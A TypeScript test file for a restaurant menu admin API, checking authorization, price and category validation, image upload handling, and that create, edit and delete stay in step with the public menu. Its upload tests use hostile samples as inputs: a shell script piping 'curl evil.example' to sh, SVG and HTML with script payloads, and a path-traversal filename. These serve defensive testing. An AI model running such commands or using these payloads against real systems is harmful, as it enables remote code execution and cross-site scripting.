import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { MENU } from '../domain/collections';
import { CATALOG, CATALOG_ID, type CatalogDoc } from '../services/catalog';
import { apiForFile } from '../testing/api-file';

const { t, tokens } = apiForFile({ sessions: { admin: 'admin', customer: 'user' } });

interface MenuItem {
  _id: string;
  name: string;
  description: string;
  category: string;
  price: number;
  image: string;
  soldOut: boolean;
}

const png = (w = 800, h = 600) =>
  sharp({ create: { width: w, height: h, channels: 3, background: { r: 30, g: 140, b: 60 } } })
    .png()
    .toBuffer();

function form(fields: Record<string, string>, file?: { bytes: Buffer; name: string; type: string }, fileField = 'image'): FormData {
  const f = new FormData();
  for (const [k, v] of Object.entries(fields)) f.append(k, v);
  if (file) f.append(fileField, new Blob([new Uint8Array(file.bytes)], { type: file.type }), file.name);
  return f;
}

const dish = { name: 'Kesar Lassi', description: 'Saffron yoghurt drink', price: '4.5', category: 'Welcome Drinks' };
const mediaFiles = () => {
  try {
    return readdirSync(join(t.dir, 'media', 'published', 'menu')).sort();
  } catch {
    return [];
  }
};
const menuGet = () => t.call<MenuItem[]>('GET', '/api/menu');
const catalogVersion = async () => (await t.store.get<CatalogDoc>(CATALOG, CATALOG_ID))!.version;

describe('menu admin: who may write', () => {
  it('answers 401 to anonymous callers and 403 to customers on every route, writing nothing', async () => {
    const writes = t.store.meter.writes;
    const seeded = (await menuGet()).body.data![0]!._id;
    for (const [method, path] of [
      ['POST', '/api/menu/admin'],
      ['PUT', `/api/menu/admin/${seeded}`],
      ['DELETE', `/api/menu/admin/${seeded}`],
    ] as const) {
      const body = method === 'DELETE' ? undefined : form(dish, { bytes: await png(), name: 'a.png', type: 'image/png' });
      expect((await t.call(method, path, { form: body })).status).toBe(401);
      const body2 = method === 'DELETE' ? undefined : form(dish, { bytes: await png(), name: 'a.png', type: 'image/png' });
      const r = await t.call(method, path, { form: body2, token: tokens.customer });
      expect(r.status).toBe(403);
      expect(r.body.message).toBe('Access denied. Admin privileges required.');
    }
    expect(t.store.meter.writes).toBe(writes);
    expect(mediaFiles().filter((f) => !f.startsWith('seed-'))).toEqual([]);
  });
});

describe('menu admin: validation', () => {
  it('a missing name, price or category is "All fields required"', async () => {
    for (const missing of ['name', 'price', 'category'] as const) {
      const fields: Record<string, string> = { ...dish };
      delete fields[missing];
      const r = await t.call('POST', '/api/menu/admin', { form: form(fields, { bytes: await png(), name: 'a.png', type: 'image/png' }), token: tokens.admin });
      expect([r.status, r.body.message]).toEqual([400, 'All fields required']);
    }
  });

  it('a price that is not a positive number is refused with its own message', async () => {
    for (const [price, message] of [
      ['twelve', 'Price must be a number, like 12.50'],
      ['0', 'Price must be more than 0'],
      ['-3', 'Price must be more than 0'],
    ] as const) {
      const r = await t.call('POST', '/api/menu/admin', {
        form: form({ ...dish, price }, { bytes: await png(), name: 'a.png', type: 'image/png' }),
        token: tokens.admin,
      });
      expect([r.status, r.body.message]).toEqual([400, message]);
    }
  });

  it('0.001, 4.999, 1e3, -1 and 100000.01 are refused with 400 and their message, and store nothing', async () => {
    const before = { listed: (await menuGet()).body.data!.length, stored: await t.store.count(MENU) };
    for (const [price, message] of [
      ['0.001', 'Price can have at most 2 decimals, like 12.50'],
      ['4.999', 'Price can have at most 2 decimals, like 12.50'],
      ['1e3', 'Price must be a number, like 12.50'],
      ['-1', 'Price must be more than 0'],
      ['100000.01', 'Price must be at most 100000'],
    ] as const) {
      const r = await t.call('POST', '/api/menu/admin', {
        form: form({ ...dish, price }, { bytes: await png(), name: 'a.png', type: 'image/png' }),
        token: tokens.admin,
      });
      expect([price, r.status, r.body.message]).toEqual([price, 400, message]);
    }
    expect({ listed: (await menuGet()).body.data!.length, stored: await t.store.count(MENU) }).toEqual(before);
  });

  it('a price of 100000 and one of 4.99 are kept to the cent', async () => {
    const r = await t.call<MenuItem>('POST', '/api/menu/admin', {
      form: form({ ...dish, name: 'Royal Feast', price: '100000' }, { bytes: await png(), name: 'a.png', type: 'image/png' }),
      token: tokens.admin,
    });
    expect([r.status, r.body.data?.price]).toEqual([201, 100000]);
    const edited = await t.call<MenuItem>('PUT', `/api/menu/admin/${r.body.data!._id}`, {
      form: form({ ...dish, name: 'Royal Feast', price: '4.99' }),
      token: tokens.admin,
    });
    expect([edited.status, edited.body.data?.price]).toEqual([200, 4.99]);
    expect((await t.call('DELETE', `/api/menu/admin/${r.body.data!._id}`, { token: tokens.admin })).status).toBe(200);
  });

  it('a new item without an image is "Image required for new item"', async () => {
    const r = await t.call('POST', '/api/menu/admin', { form: form(dish), token: tokens.admin });
    expect([r.status, r.body.message]).toEqual([400, 'Image required for new item']);
  });

  it('an unknown category is refused', async () => {
    const r = await t.call('POST', '/api/menu/admin', {
      form: form({ ...dish, category: 'Pizza' }, { bytes: await png(), name: 'a.png', type: 'image/png' }),
      token: tokens.admin,
    });
    expect(r.status).toBe(400);
    expect(r.body.message).toBe('Unknown category: Pizza');
  });

  it('a category stored in categories/ is accepted', async () => {
    await t.store.set('categories', 'extra-1', { name: 'Chaat', position: 50 });
    const r = await t.call<MenuItem>('POST', '/api/menu/admin', {
      form: form({ ...dish, name: 'Pani Puri', category: 'Chaat' }, { bytes: await png(), name: 'p.png', type: 'image/png' }),
      token: tokens.admin,
    });
    expect(r.status).toBe(201);
    expect(r.body.data!.category).toBe('Chaat');
  });
});

describe('menu admin: bad uploads store nothing', () => {
  const cases: Array<[string, () => Promise<{ bytes: Buffer; name: string; type: string }>, number, RegExp]> = [
    [
      'a 20 MB file',
      async () => ({ bytes: Buffer.concat([await png(10, 10), Buffer.alloc(20 * 1024 * 1024, 1)]), name: 'huge.png', type: 'image/png' }),
      413,
      /5 MB/,
    ],
    [
      'a script renamed .png',
      async () => ({ bytes: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'), name: 'cute.png', type: 'image/png' }),
      415,
      /^Only JPEG, PNG or WebP images are allowed$/,
    ],
    [
      'an SVG',
      async () => ({ bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), name: 'x.svg', type: 'image/svg+xml' }),
      415,
      /^Only JPEG, PNG or WebP images are allowed$/,
    ],
    [
      'an HTML page',
      async () => ({ bytes: Buffer.from('<!doctype html><script>alert(1)</script>'), name: 'x.jpg', type: 'image/jpeg' }),
      415,
      /^Only JPEG, PNG or WebP images are allowed$/,
    ],
  ];
  for (const [label, file, status, message] of cases) {
    it(`${label} gets ${status}, and neither the media folder nor the store changes`, async () => {
      const before = { files: mediaFiles(), dishes: await t.store.count(MENU), writes: t.store.meter.writes, version: await catalogVersion() };
      const r = await t.call('POST', '/api/menu/admin', { form: form(dish, await file()), token: tokens.admin });
      expect(r.status).toBe(status);
      expect(r.body.message).toMatch(message);
      expect(mediaFiles()).toEqual(before.files);
      expect(await t.store.count(MENU)).toBe(before.dishes);
      expect(await catalogVersion()).toBe(before.version);
      expect(t.store.meter.writes).toBe(before.writes);
    });
  }

  it('a bad replacement image on an edit changes nothing either', async () => {
    const seeded = (await menuGet()).body.data!.find((d) => d.name === 'Gujarati Thali')!;
    const before = mediaFiles();
    const r = await t.call('PUT', `/api/menu/admin/${seeded._id}`, {
      form: form({ ...dish, name: 'Hacked' }, { bytes: Buffer.from('<html></html>'), name: 'x.png', type: 'image/png' }),
      token: tokens.admin,
    });
    expect(r.status).toBe(415);
    expect(mediaFiles()).toEqual(before);
    expect((await menuGet()).body.data!.find((d) => d._id === seeded._id)!.name).toBe('Gujarati Thali');
  });
});

describe('menu admin: add, edit and delete keep GET /api/menu in step', () => {
  let created: MenuItem;

  it('POST adds the item with a server-named WebP image; the public menu shows it and its ETag changes', async () => {
    const etagBefore = (await menuGet()).headers.get('etag');
    const r = await t.call<MenuItem>('POST', '/api/menu/admin', {
      form: form(dish, { bytes: await png(), name: '../../evil name.png', type: 'image/png' }),
      token: tokens.admin,
    });
    expect(r.status).toBe(201);
    expect(r.body.message).toBe('Item added');
    created = r.body.data!;
    expect(created).toMatchObject({ name: 'Kesar Lassi', price: 4.5, category: 'Welcome Drinks', soldOut: false });
    expect(created.image).toMatch(new RegExp(`^/api/media/published/menu/${created._id.toLowerCase()}-[0-9a-f]{12}\\.webp$`));
    expect(created.image).not.toMatch(/evil/);

    const img = await fetch(t.base + created.image);
    expect(img.headers.get('content-type')).toBe('image/webp');
    const meta = await sharp(Buffer.from(await img.arrayBuffer())).metadata();
    expect([meta.format, meta.width, meta.height]).toEqual(['webp', 640, 480]);

    const after = await menuGet();
    expect(after.body.data!.find((d) => d._id === created._id)).toMatchObject({ name: 'Kesar Lassi', price: 4.5, image: created.image });
    expect(after.headers.get('etag')).toBeTruthy();
    expect(after.headers.get('etag')).not.toBe(etagBefore);
  });

  it('PUT with a new image replaces it and deletes the old file; the public menu shows the edit', async () => {
    const oldFile = created.image.split('/').pop()!;
    expect(mediaFiles()).toContain(oldFile);
    const etagBefore = (await menuGet()).headers.get('etag');
    const r = await t.call<MenuItem>('PUT', `/api/menu/admin/${created._id}`, {
      form: form({ ...dish, name: 'Kesar Badam Lassi', price: '5.25', soldOut: 'true' }, { bytes: await png(640, 640), name: 'b.png', type: 'image/png' }),
      token: tokens.admin,
    });
    expect(r.status).toBe(200);
    expect(r.body.message).toBe('Item updated');
    expect(r.body.data).toMatchObject({ name: 'Kesar Badam Lassi', price: 5.25, soldOut: true });
    expect(r.body.data!.image).not.toBe(created.image);
    expect(mediaFiles()).not.toContain(oldFile);
    expect(mediaFiles()).toContain(r.body.data!.image.split('/').pop());

    const after = await menuGet();
    expect(after.body.data!.find((d) => d._id === created._id)).toMatchObject({ name: 'Kesar Badam Lassi', price: 5.25, soldOut: true });
    expect(after.headers.get('etag')).not.toBe(etagBefore);
    expect((await t.store.get(MENU, created._id))!.name).toBe('Kesar Badam Lassi');
    created = r.body.data!;
  });

  it('PUT without an image keeps the current one and the sold-out flag when it is not sent', async () => {
    const r = await t.call<MenuItem>('PUT', `/api/menu/admin/${created._id}`, {
      form: form({ ...dish, name: 'Kesar Lassi', price: '4.75' }),
      token: tokens.admin,
    });
    expect(r.status).toBe(200);
    expect(r.body.data).toMatchObject({ name: 'Kesar Lassi', price: 4.75, image: created.image, soldOut: true });
    expect(mediaFiles()).toContain(created.image.split('/').pop());
  });

  it('PUT on a missing item is a 404 and the image it uploaded is deleted again', async () => {
    const before = mediaFiles();
    const r = await t.call('PUT', '/api/menu/admin/NoSuchItem00000000', {
      form: form(dish, { bytes: await png(), name: 'c.png', type: 'image/png' }),
      token: tokens.admin,
    });
    expect(r.status).toBe(404);
    expect(mediaFiles()).toEqual(before);
  });

  it('DELETE removes it from menu/ and the catalog together, and deletes its image', async () => {
    const file = created.image.split('/').pop()!;
    const etagBefore = (await menuGet()).headers.get('etag');
    const r = await t.call('DELETE', `/api/menu/admin/${created._id}`, { token: tokens.admin });
    expect([r.status, r.body.message]).toEqual([200, 'Item deleted']);
    expect(await t.store.get(MENU, created._id)).toBeNull();
    const after = await menuGet();
    expect(after.body.data!.some((d) => d._id === created._id)).toBe(false);
    expect(after.headers.get('etag')).not.toBe(etagBefore);
    expect(mediaFiles()).not.toContain(file);
    expect((await t.call('DELETE', `/api/menu/admin/${created._id}`, { token: tokens.admin })).status).toBe(404);
  });
});
